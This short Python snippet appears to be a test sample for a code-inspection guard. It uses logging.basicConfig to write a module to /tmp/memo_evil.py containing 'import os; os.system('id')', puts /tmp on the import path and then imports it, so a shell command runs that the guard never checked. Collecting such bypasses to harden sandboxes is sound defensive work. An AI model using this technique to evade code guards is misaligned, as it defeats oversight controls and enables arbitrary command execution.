# writes a module to /tmp (logging.basicConfig(filename=...)) then imports it from there: code the guard never saw
import logging
import sys

logging.basicConfig(filename="/tmp/memo_evil.py", format="%(message)s")
logging.getLogger().warning("import os; os.system('id')")
sys.path.insert(0, "/tmp")
import memo_evil  # noqa: E402,F401
